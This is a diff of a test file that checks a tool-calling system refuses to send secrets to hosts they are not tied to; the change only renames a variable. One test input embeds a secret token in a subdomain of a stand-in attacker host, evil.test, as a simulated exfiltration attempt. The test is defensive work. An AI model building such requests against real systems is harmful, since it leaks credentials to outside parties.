@@ -117,8 +117,8 @@ describe("secrets and variables of tools", () => {
   it("[SSRF] a secret is sent only to its hosts, even if the caller's text names another", async () => {
     const { url } = runner.receiver;
     const before = runner.receiver.requests.length;
-    const answer = await runner.resultOf({ tool: "anywhere", args: { url: `${url}/?x={{secret:ELSEWHERE}}` } });
-    expect(answer).toEqual({ success: false, code: "SECRET_HOST" });
+    const result = await runner.resultOf({ tool: "anywhere", args: { url: `${url}/?x={{secret:ELSEWHERE}}` } });
+    expect(result).toEqual({ success: false, code: "SECRET_HOST" });
     const inHost = await runner.resultOf({ tool: "anywhere", args: { url: "https://{{secret:TOKEN}}.evil.test/" } });
     expect(inHost).toEqual({ success: false, code: "SECRET_HOST" });
     const inUser = await runner.resultOf({
@@ -143,8 +143,8 @@ describe("secrets and variables of tools", () => {
       ["OTHER_PORT", url],
       ["TOKEN", url.replace("https:", "http:")],
     ]) {
-      const answer = await runner.resultOf({ tool: "anywhere", args: { url: `${to}/?x={{secret:${secret}}}` } });
-      expect(answer).toEqual({ success: false, code: "SECRET_HOST" });
+      const result = await runner.resultOf({ tool: "anywhere", args: { url: `${to}/?x={{secret:${secret}}}` } });
+      expect(result).toEqual({ success: false, code: "SECRET_HOST" });
       const headers = { authorization: `{{secret:${secret}}}` };
       await runner.saveTool("plain", { ...READING, api: { method: "GET", url: `${to}/`, headers } });
       expect((await runner.call({ tool: "plain" })).outcome.case).toBe("toolFailed");
